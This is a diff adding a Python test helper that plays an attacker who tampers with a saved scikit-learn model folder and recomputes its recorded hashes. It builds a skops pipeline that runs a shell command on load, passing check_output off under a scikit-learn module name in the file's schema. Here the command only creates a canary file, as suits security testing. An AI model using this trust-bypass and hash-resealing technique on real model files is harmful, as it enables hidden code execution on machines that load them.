@@ -1,0 +1,78 @@
+"""What an attacker who can write a model folder does: change a file, then recompute every hash the folder records."""
+
+import hashlib
+import io
+import json
+import shlex
+import zipfile
+from pathlib import Path
+
+import numpy as np
+import skops.io
+from sklearn.linear_model import LogisticRegression
+from sklearn.pipeline import Pipeline
+from sklearn.preprocessing import FunctionTransformer
+from sklearn.utils._testing import check_output  # subprocess.check_output, importable from a scikit-learn module
+
+try:  # "[{source}] ....{message}, total={time}": a scikit-learn string helper
+    from sklearn.utils._user_interface import _message_with_time
+except ImportError:  # scikit-learn < 1.5
+    from sklearn.utils import _message_with_time
+
+
+def sha256(path: Path) -> str:
+    """The hex sha256 of a file."""
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+def reseal_manifest(folder: Path) -> None:
+    """Recompute the sha256 of every file of the folder in manifest.json."""
+    files = {path.name: sha256(path) for path in sorted(folder.iterdir()) if path.name != "manifest.json"}
+    (folder / "manifest.json").write_text(json.dumps({"files": files}))
+
+
+def reseal(folder: Path) -> None:
+    """Recompute the model's sha256 in metadata.json, then the manifest."""
+    metadata = json.loads((folder / "metadata.json").read_text())
+    metadata["model_sha256"] = sha256(folder / "model.skops")
+    (folder / "metadata.json").write_text(json.dumps(metadata))
+    reseal_manifest(folder)
+
+
+def edit_metadata(folder: Path, **changes) -> None:
+    """Rewrite some metadata fields and reseal the folder."""
+    metadata = json.loads((folder / "metadata.json").read_text())
+    (folder / "metadata.json").write_text(json.dumps({**metadata, **changes}))
+    reseal(folder)
+
+
+def replace_model(folder: Path, estimator: object) -> None:
+    """Swap in another estimator and reseal the folder."""
+    skops.io.dump(estimator, folder / "model.skops")
+    reseal(folder)
+
+
+def command_running_model(canary: Path, width: int) -> Pipeline:
+    """The review's exploit: a FunctionTransformer builds a shell command with a scikit-learn string helper,
+    the next runs it with check_output, then a real classifier (which fails, after the command ran)."""
+    command = f"; touch {shlex.quote(str(canary))} #"
+    classifier = LogisticRegression().fit(np.eye(width), np.arange(width) % 2)
+    return Pipeline(
+        [
+            ("build", FunctionTransformer(_message_with_time, kw_args={"message": command, "time": 0})),
+            ("run", FunctionTransformer(check_output, kw_args={"shell": True, "stderr": -3})),  # -3: subprocess.DEVNULL
+            ("classify", classifier),
+        ]
+    )
+
+
+def plant_exploit(folder: Path, canary: Path, width: int) -> None:
+    """Replace a folder's model with the exploit, naming check_output by its scikit-learn module, and reseal."""
+    buffer = io.BytesIO(skops.io.dumps(command_running_model(canary, width)))
+    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(folder / "model.skops", "w") as target:
+        for item in source.infolist():
+            data = source.read(item)
+            if item.filename == "schema.json":  # skops records subprocess, the module that defines it
+                data = data.replace(b'"__module__": "subprocess"', b'"__module__": "sklearn.utils._testing"')
+            target.writestr(item, data)
+    reseal(folder)
